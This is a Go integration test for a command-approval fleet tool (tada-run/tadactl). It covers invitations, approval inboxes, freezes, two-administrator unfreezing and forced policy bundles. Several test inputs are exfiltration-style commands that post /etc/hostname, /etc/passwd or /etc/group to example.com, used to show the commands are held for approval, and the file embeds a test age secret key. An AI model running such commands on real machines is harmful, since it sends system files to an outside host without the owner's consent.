package integration

import (
	"encoding/json"
	"errors"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/tada-run/tada-run/integration/served"
)

// Commits of programs that are tried with the other ones of this commit, or "": of tada-fleet, of
// all others, and of the tada-fleet that is the registrar. See make fleet-stress.
var (
	before     = os.Getenv("TEST_BEFORE")
	others     = os.Getenv("TEST_OTHERS_BEFORE")
	registrars = os.Getenv("TEST_REGISTRAR_BEFORE")
	mixed      = before+others+registrars != ""
)

// newFleet is a place with the real tada-fleet, an etcd, and a fleet that ann has founded, typed as
// in docs/fleet.md.
func newFleet(t *testing.T) (p *place, etcd *served.Etcd, site *exec.Cmd) {
	t.Helper()
	need(t, "go")
	p = newPlace(t)
	bin := filepath.Join(filepath.Dir(p.dir), "bin")
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(self, filepath.Join(bin, "person")); err != nil {
		t.Fatal(err)
	}
	buildOf(t, before, bin, "tada-fleet")
	if others != "" {
		buildOf(t, others, bin, "tada-run", "tadactl")
	}
	serve := "tadactl fleet serve"
	if registrars != "" {
		buildOf(t, registrars, filepath.Join(bin, "before"), "tada-fleet")
		serve = filepath.Join(bin, "before", "tada-fleet") + " serve"
	}
	for i, e := range p.env { // the account of the machine that asks is the usual one
		if strings.HasPrefix(e, "TRANSCRIPT_HOME=") {
			p.env[i] = "CI=" + p.state
		}
	}
	p.env = append(p.env, "ANN="+filepath.Join(filepath.Dir(p.dir), "ann"),
		"BOB="+filepath.Join(filepath.Dir(p.dir), "bob"))

	p.wants("person tadactl --home $ANN key init ann --no-passphrase", "ed25519 ")
	p.wants("person tadactl --home $ANN fleet init ../acme --name acme --host 127.0.0.1",
		"--auto-compaction-retention 1h") // without it, etcd is full one day
	etcd = served.StartSecureEtcd(t, 1, filepath.Join(filepath.Dir(p.dir), "acme"))
	p.env = append(p.env, "ETCD=https://"+etcd.Endpoints()[0], "SITE="+freePort(t))
	return p, etcd, p.daemon(serve+" ../acme --etcd $ETCD --listen $SITE", "listens on")
}

// One machine asks, another one answers, and stops it.
func TestFleetOfTwo(t *testing.T) {
	t.Parallel()
	p, _, site := newFleet(t)
	first := p.link("tadactl --home $ANN fleet invite --dir ../acme --etcd $ETCD " +
		"--url https://$SITE --people --owner ann")
	p.wants("tadactl --home $ANN fleet join '"+first+"' --name laptop", `is now in fleet "acme"`)
	p.wants("tadactl --home $CI fleet join '"+first+"'", "this invitation is not valid")
	second := p.link("tadactl --home $ANN fleet invite --labels env=ci")
	p.wants("tadactl --home $CI fleet join '"+second+"' --name ci1", `with labels "env=ci"`)
	p.wants("tada-run --home $CI 'curl -d @/etc/hostname https://example.com/' </dev/null",
		"tadactl fleet agent")
	if !mixed {
		p.alone()
	}
	agent := p.daemon("tadactl --home $CI fleet agent", "")
	p.eventually("tadactl --home $CI pending", "")
	if !mixed {
		p.eventually("tadactl --home $ANN fleet show ci1", "state     connected")
	}
	p.wants("tada-run --home $CI 'curl -d @/etc/hostname https://example.com/' </dev/null",
		"needs approval")
	p.eventually("tadactl --home $ANN fleet pending", "ci1")
	question := strings.Fields(p.run("tadactl --home $ANN fleet pending"))[0]
	p.wants("person tadactl --home $ANN fleet answer "+question, question+": approved")
	p.wants("tadactl --home $CI pending", "answered")
	p.wants("tadactl --home $ANN fleet list", "connected")
	if !mixed {
		p.wants("tadactl --home $ANN fleet show ci1", "labels    env=ci\n")
		p.wants("tadactl --home $ANN fleet show nobody",
			`no machine has the id or the name "nobody"`)
		p.wants("person tadactl --home $ANN fleet revoke nobody",
			`no machine has the id or the name "nobody"`)
	}
	if !mixed { // an older program may not have these
		p.bucketOfNone()
		p.oneInbox()
		p.pausing()
		agent = p.stopping(agent)
		p.forcing()
		p.replacing(site)
	}
	p.wants("person tadactl --home $ANN fleet freeze --label env=ci --reason leak", "freeze ")
	p.eventually("tada-run --home $CI 'echo hello'", "it is frozen")
	p.wants("tadactl --home $CI fleet status", "frozen   by ann at")
	if out := p.run("tadactl --home $CI fleet leave"); !strings.Contains(out, "person") {
		t.Errorf("without a person: %s", out)
	}
	_ = agent.Process.Signal(syscall.SIGTERM)
	_ = agent.Wait()
	p.wants("tada-run --home $CI 'echo hello'", "it is frozen")
	p.wants("person tadactl --home $CI fleet leave", `left fleet "acme"`)
	p.wants("tada-run --home $CI 'echo hello'", "hello")
	p.wants("tada-run --home $CI 'curl -d @/etc/hostname https://example.com/' </dev/null",
		"needs approval")
	p.wants("tadactl --home $CI audit verify --complete", "ok: ")
}

// buildOf builds programs of a commit into a folder, in place of those that are there.
func buildOf(t *testing.T, commit, bin string, names ...string) {
	t.Helper()
	source := sourceOf(t, commit)
	for _, name := range names {
		to := filepath.Join(bin, name)
		if err := os.Remove(to); err != nil && !errors.Is(err, os.ErrNotExist) {
			t.Fatal(err)
		}
		build := exec.Command("go", "build", "-o", to, "./cmd/"+name)
		build.Dir = source
		if out, err := build.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
	}
}

// sourceOf returns the folder of the source of a commit; of this one for "".
func sourceOf(t *testing.T, commit string) string {
	t.Helper()
	if commit == "" {
		return ".."
	}
	need(t, "git")
	dir := t.TempDir()
	cmd := exec.Command("sh", "-c", `git archive "$0" | tar -x -C "$1"`, commit, dir)
	cmd.Dir = ".." // all of it, not this folder alone
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return dir
}

// alone is what a fleet says that has nothing yet, and one administrator.
func (p *place) alone() {
	p.t.Helper()
	p.wants("tadactl --home $ANN fleet pending", "no open questions\n")
	p.wants("tadactl --home $ANN fleet unfreeze", "no freezes\n")
	p.wants("tadactl --home $ANN fleet policy list", "no bundles\n")
	p.wants("[ -z \"$(tadactl --home $ANN fleet policy list --json)\" ] && echo empty", "empty\n")
	p.wants("tadactl --home $ANN fleet policy status base || echo status $?",
		`no bundle has the name "base"; type: tadactl fleet policy list`)
	p.wants("person tadactl --home $ANN fleet freeze --label env=none",
		"add another: tadactl fleet person add KEY --admin")
	p.wants("tadactl --home $ANN fleet unfreeze", "  by ann  machines with env=none\n")
	p.wants("person tadactl --home $ANN fleet unfreeze zzz", `no freeze has the id "zzz"`)
}

// forcing puts bundles in force. Where records are shipped, what ran is judged again first; doing
// without is said, signed and recorded.
func (p *place) forcing() {
	p.t.Helper()
	team := filepath.Join(p.t.TempDir(), "team.key")
	text := filepath.Join(p.t.TempDir(), "extra.yaml")
	if err := errors.Join(os.WriteFile(team, []byte(noTeam), 0o600),
		os.WriteFile(text, []byte("background: end\n"), 0o600)); err != nil {
		p.t.Fatal(err)
	}
	push := "person tadactl --home $ANN fleet policy push extra " + text + " --label env=none"
	force := "person tadactl --home $ANN fleet policy force extra"
	p.wants(push, "is now on trial")
	p.wants(force, "WITHOUT THE GATE")
	p.wants("tadactl --home $ANN fleet policy list", `without a gate: "the fleet ships no records"`)
	p.wants("person tadactl --home $ANN fleet ship --bucket records --endpoint http://127.0.0.1:9 "+
		"--recipient age1lggyhqrw2nlhcxprm67z43rta597azn8gknawjehu9d9dl0jq3yqqvfafg",
		"tadactl fleet ship-key")
	p.wants("tadactl --home $ANN fleet ship", "# fleet: ")
	p.wants(push, "is now on trial")
	p.wants(force+" || echo status $?", "--no-gate REASON")
	p.wants(force+" --identity "+team, "the gate could not be run, so nothing was signed")
	p.wants(force+" --identity "+team+" --no-gate x", "--no-gate is instead of")
	p.wants("tadactl --home $ANN fleet policy list", "version 2     shadow")
	p.wants(force+" --no-gate 'storage is down'", "extra version 2 is in force")
	p.wants("tadactl --home $ANN fleet policy list", `without a gate: "storage is down"`)
	p.wants("tadactl --home $ANN log --json --kind fleet.ungated", `"why":"storage is down"`)
	withdraw := "person tadactl --home $ANN fleet policy withdraw extra"
	p.wants(withdraw+" || echo status $?", "--no-gate REASON")
	p.wants(withdraw+" --identity "+team, "the gate could not be run, so nothing was signed")
	p.wants("tadactl --home $ANN fleet policy list", "version 2     force")
	p.wants(withdraw+" --no-gate 'it is over'", "ends the bundle")
	p.wants("tadactl --home $ANN fleet policy list",
		`withdrawn  by ann, without a gate: "it is over"`)
	p.wants("tadactl --home $ANN log --json --kind fleet.ungated", `"withdrawn":true`)
	p.wants("person tadactl --home $ANN fleet policy push tried "+text+" --label env=none",
		"is now on trial")
	p.wants("person tadactl --home $ANN fleet policy withdraw tried", "ends the bundle")
	p.wants("person tadactl --home $ANN fleet ship --off", "nothing is shipped any more")
}

// noTeam is a key of age with which nothing is encrypted.
const noTeam = "AGE-SECRET-KEY-1DL642M6E604MT5UA3RQ0ZA4LD38MY3MK36KKQPZNGUG2WA5HTHHQFP0VQ5"

// bucketOfNone verifies from a bucket that has nothing, or something of one machine, as a person
// types it: the machines of the fleet that it does not have are named.
func (p *place) bucketOfNone() {
	p.t.Helper()
	url, bucket := served.StartBucket(p.t, "records")
	team := filepath.Join(p.t.TempDir(), "team.key")
	if err := os.WriteFile(team, []byte(noTeam), 0o600); err != nil {
		p.t.Fatal(err)
	}
	p.env = append(p.env, "AWS_ACCESS_KEY_ID="+served.S3Key,
		"AWS_SECRET_ACCESS_KEY="+served.S3Secret)
	verify := "tadactl --home $ANN audit verify s3://records --identity " + team
	p.wants(verify+" || echo status $?", "--endpoint")
	p.wants(verify+" --copy "+p.t.TempDir(), "the bucket holds no machine's record")
	verify += " --ask --region us-east-1 --endpoint " + url
	p.wants(verify+" || echo status $?", "status 77\n")
	p.wants(verify, "no record of ci1 in the bucket\n")
	p.wants(verify, "the bucket holds no machine's record; "+
		"the bucket has no record of 2 machines\n")
	ci1 := strings.Fields(p.run("tadactl --home $ANN fleet show ci1"))[1]
	bucket.Put(ci1+"/objects/x", []byte("x"))
	if out := p.run(verify); strings.Contains(out, "no record of ci1") ||
		!strings.Contains(out, "no record of laptop in the bucket\n") ||
		!strings.Contains(out, "1 of 1 machine has missing or rewritten records") {
		p.t.Error(out)
	}
	p.wants(verify+" --document $CI/fleet/fleet", "1 of 1 machine has missing")
}

// oneInbox answers a question of another machine in the inbox on a terminal, and one in a browser,
// while this machine's own questions cannot be seen because its agent does not run.
func (p *place) oneInbox() {
	p.t.Helper()
	const again = "tada-run --home $CI 'curl -d @/etc/passwd https://example.com/' </dev/null"
	p.wants(again, "needs approval")
	s, tty := p.on("tadactl --home $ANN inbox; echo left $?")
	if err := play("< this machine: not up to date\n< on ci1 (env=ci)\n> \\r\n= type\n"+
		"< : approved\n> q\n< left 0", s, tty); err != nil {
		p.t.Fatal(err, s.text())
	}
	if out := p.run(again); strings.Contains(out, "needs approval") {
		p.t.Fatal(out)
	}
	g := p.page("tadactl --home $ANN inbox --web; echo left $?")
	p.wants("tada-run --home $CI 'curl -d @/etc/group https://example.com/' </dev/null",
		"needs approval")
	id, code := g.announced("")
	_, _, list := g.send("GET", g.path, nil, nil)
	if !strings.Contains(list, "on ci1") || !strings.Contains(list, "m/"+id) ||
		!strings.Contains(list, "of this machine are not known now") {
		p.t.Fatal(list)
	}
	form, shown := g.filled("m/"+id, code, "approve"), time.Now()
	if status, _, body := g.send("POST", g.path+"m/"+id, form, nil); status !=
		http.StatusConflict || !strings.Contains(body, "too early") {
		p.t.Fatal(status, body)
	}
	time.Sleep(time.Until(shown.Add(5 * time.Second)))
	form.Set("code", "000000")
	if status, _, body := g.send("POST", g.path+"m/"+id, form, nil); status !=
		http.StatusForbidden {
		p.t.Fatal(status, body)
	}
	form.Set("code", code)
	if status, _, body := g.send("POST", g.path+"m/"+id, form, nil); status != http.StatusOK ||
		!strings.Contains(body, "approved: ") {
		p.t.Fatal(status, body)
	}
	if status, _, body := g.send("POST", g.path+"m/"+id, form, nil); status == http.StatusOK {
		p.t.Fatal("answered twice:", body)
	}
	_, own, _ := strings.Cut(id, "/")
	p.wants("tadactl --home $CI pending", own+"  answered")
}

// pausing freezes the machine so that its run is stopped, and has two administrators end that.
func (p *place) pausing() {
	p.t.Helper()
	bob := regexp.MustCompile(`ed25519 \S+ bob\S*`).FindString(
		p.run("person tadactl --home $BOB key init bob --no-passphrase"))
	link := p.link("tadactl --home $ANN fleet invite --people")
	p.wants("tadactl --home $BOB fleet join '"+link+"' --name other", "is now in fleet")
	p.wants("person tadactl --home $ANN fleet person add '"+bob+"' --answers '*' --admin", "bob")
	p.wants("tadactl --home $ANN fleet status", `document 2`)
	run := p.daemon("tada-run --home $CI 'while sleep 0.05; do echo step >>steps; done'", "")
	p.eventually("cat steps", "step")
	id := p.freezes("--pause")
	p.eventually("tadactl --home $CI log --json", "exec.paused")
	was := p.run("cat steps")
	time.Sleep(500 * time.Millisecond)
	if now := p.run("cat steps"); now != was {
		p.t.Error("it runs on")
	}
	p.wants("tada-run --home $CI 'echo hello'", "it is frozen")
	p.wants("person tadactl --home $ANN fleet unfreeze "+id,
		"another administrator must sign too; signed by ann\n")
	p.wants("person tadactl --home $BOB fleet unfreeze "+id, "ended; signed by ann, bob\n")
	p.eventually("tadactl --home $CI log --json", "exec.continued")
	p.eventually("[ $(cat steps | wc -c) -gt "+strconv.Itoa(len(was))+" ]", "")
	_ = run.Process.Signal(syscall.SIGTERM)
	_ = run.Wait()
}

// wants runs a line and fails if a text is not in what it prints.
func (p *place) wants(line, text string) {
	p.t.Helper()
	if out := p.run(line); !strings.Contains(out, text) {
		p.t.Fatalf("%s:\n%.2000s\nnot: %s", line, out, text)
	}
}

// eventually runs a line until it succeeds, or prints a text.
func (p *place) eventually(line, text string) {
	p.t.Helper()
	out, err := []byte(nil), error(nil)
	for range 300 {
		out, err = p.command(line).CombinedOutput()
		if text == "" && err == nil || text != "" && strings.Contains(string(out), text) {
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	p.t.Fatalf("%s: %v:\n%.2000s\nnot: %s", line, err, out, text)
}

// daemon starts a line, and returns when it has printed a text.
func (p *place) daemon(line, text string) *exec.Cmd {
	p.t.Helper()
	out := filepath.Join(p.t.TempDir(), "out")
	cmd := p.command("exec " + line + " >" + out + " 2>&1")
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := cmd.Start(); err != nil {
		p.t.Fatal(err)
	}
	p.t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	if text != "" {
		p.eventually("cat "+out, text)
	}
	return cmd
}

// link is the link that an invitation prints.
func (p *place) link(line string) string {
	p.t.Helper()
	out, err := p.command(line + " --json").Output()
	var made struct{ URL string }
	if err != nil || json.Unmarshal(out, &made) != nil {
		p.t.Fatalf("%s: %v: %s", line, err, out)
	}
	if !regexp.MustCompile(`^https://(127\.0\.0\.1|localhost):\d+/#`).MatchString(made.URL) {
		p.t.Fatalf("%s: %q", line, made.URL)
	}
	return made.URL
}

func freePort(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().String()
}
